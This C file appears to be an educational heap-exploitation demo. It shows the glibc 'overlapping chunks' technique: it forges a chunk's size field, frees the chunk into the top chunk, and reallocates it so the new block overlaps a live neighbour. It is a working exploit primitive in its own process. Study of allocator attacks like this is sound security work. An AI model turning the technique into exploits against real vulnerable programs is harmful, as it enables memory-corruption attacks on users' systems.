/* Technique: overlapping chunks by size corruption (how2heap
   overlapping_chunks, glibc 2.35+ variant).

   Goal: an overlapping allocation -- malloc returns a block that
   contains another block the program still holds.

   How: p1, p2, p3 are allocated in a row, p3 just below the top chunk.
   An overflow from p1 rewrites p2's size field so that p2 seems to
   cover p3 as well.  free (p2) trusts that size: the grown chunk ends at
   the top chunk, so it is merged into top.  The next malloc of the grown
   size is carved from top at p2's address and overlaps the live p3.  */
#include "attack.h"

int
main (void)
{
  attack_init ("overlapping_chunks: grow a chunk's size in place, free it, reallocate over its neighbour");
  size_t *p1 = malloc (0x80 - 8);
  size_t *p2 = malloc (0x500 - 8);
  size_t *p3 = malloc (0x80 - 8);
  memset (p1, '1', 0x80 - 8);
  memset (p2, '2', 0x500 - 8);
  memset (p3, '3', 0x80 - 8);
  say ("p1 %p p2 %p p3 %p", p1, p2, p3);

  /* The overflow from p1: p2's size now spans p2 and p3.  */
  SIZE (p2) = 0x580 | PREV_INUSE;
  free (p2);

  char *p4 = malloc (0x580 - 8);
  say ("p4 = malloc (0x578) = %p", p4);
  if (p4 && overlaps (p4, 0x580 - 8, p3, 0x80 - 8)
      && aliases ((unsigned char *) p4 + ((char *) p3 - p4), (unsigned char *) p3))
    reached ("p4 %p [0x578 bytes] overlaps the live p3 %p", p4, p3);
  no_effect ("p4 %p does not overlap p3 %p", p4, p3);
}
